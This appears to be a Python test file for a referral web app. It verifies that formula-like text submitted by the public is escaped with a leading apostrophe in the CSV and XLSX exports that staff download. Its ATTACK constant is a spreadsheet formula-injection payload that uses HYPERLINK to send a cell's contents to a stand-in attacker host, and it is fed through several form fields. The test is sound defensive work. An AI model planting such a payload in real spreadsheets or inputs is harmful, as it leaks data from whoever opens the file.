"""Text typed into the anonymous public request cannot become a live formula in any download an analyst opens:
the dashboard's CSV and XLSX, Annex A's XLSX and the SSD extract's CSVs."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from frontdoor.core.spreadsheets import escape_cell, is_formula_like
from frontdoor.reporting.models import ExportJob
from frontdoor.reporting.services import run_pending
from tests.conftest import signed_in
from tests.screener.web.journey import CHILD, SECTIONS, fill_request, screen_to, section_url, send

ATTACK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for the full report")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+44 1632 960001", "'+44 1632 960001"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Testfield Primary", "Testfield Primary"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("", ""),
        (7, 7),
    ],
)
def test_formula_like_text_gets_an_apostrophe_and_nothing_else_changes(typed, written):
    assert escape_cell(typed) == written


@pytest.fixture
def attack_from_the_public(client, chat, fast):
    from frontdoor.screener.services import ensure_live_definition

    ensure_live_definition()
    screen_to(client, "CSC")
    fill_request(client, child={**CHILD, "given_name": ATTACK, "school": ATTACK})
    response = client.post(section_url("referrer"), {**SECTIONS["referrer"], "agency": ATTACK})
    assert response.status_code == 302
    assert send(client).status_code == 302
    from frontdoor.intake.models import Contact

    contact = Contact.objects.get()
    assert contact.referrer_agency == ATTACK
    return contact


def _assert_inert_workbook(data: bytes) -> int:
    """Every cell is a value (no formulas); formula-like text is stored as quote-prefixed text."""
    workbook = load_workbook(io.BytesIO(data))
    found = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    found += cell.value == ATTACK
    return found


def _assert_inert_csv(text: str) -> int:
    found = 0
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not is_formula_like(cell), cell
            found += cell == "'" + ATTACK
    return found


def test_the_dashboard_downloads_hold_the_agency_as_inert_text(attack_from_the_public, client, analyst):
    signed_in(client, analyst)
    contact = attack_from_the_public
    day = contact.received_at.date()
    query = (
        f"start_0={day.day}&start_1={day.month}&start_2={day.year - 1}"
        f"&end_0={day.day}&end_1={day.month}&end_2={day.year}&team="
    )
    response = client.get(f"/staff/performance/download/agencies/?{query}&format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert _assert_inert_csv(response.content.decode("utf-8")) == 1
    response = client.get(f"/staff/performance/download/all/?{query}&format=xlsx")
    assert response.status_code == 200
    assert _assert_inert_workbook(response.content) >= 1


def test_the_statutory_exports_hold_typed_text_as_inert(attack_from_the_public, client, returns_officer):
    signed_in(client, returns_officer)
    client.post("/staff/performance/exports/", {"kind": "ssd"})
    today = attack_from_the_public.received_at.date()
    client.post(
        "/staff/performance/exports/",
        {"kind": "annex_a", "as_of_0": today.day, "as_of_1": today.month, "as_of_2": today.year},
    )
    assert run_pending() == 2
    found = {}
    for job in ExportJob.objects.all():
        assert job.status == ExportJob.Status.DONE, job.error
        data = b"".join(client.get(f"/staff/performance/exports/{job.pk}/download/").streaming_content)
        if job.kind == ExportJob.Kind.ANNEX_A:
            found[job.kind] = _assert_inert_workbook(data)
        else:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                found[job.kind] = sum(
                    _assert_inert_csv(archive.read(n).decode("utf-8")) for n in archive.namelist()
                )
    # the child's name typed by the public is in the SSD person file, apostrophe first
    assert found[ExportJob.Kind.SSD] == 1


def test_ssd_person_names_that_look_like_formulas_are_escaped(tmp_path, make_contact, chat):
    from datetime import date

    from frontdoor.reporting.services import write_ssd

    make_contact(chat, child=("=1+1", "@Example", date(2019, 3, 14)))
    write_ssd(out_dir=tmp_path, since=date(2020, 1, 1))
    people = list(csv.DictReader((tmp_path / "ssd_person.csv").open(encoding="utf-8")))
    assert people and {(p["pers_forename"], p["pers_surname"]) for p in people} == {("'=1+1", "'@Example")}
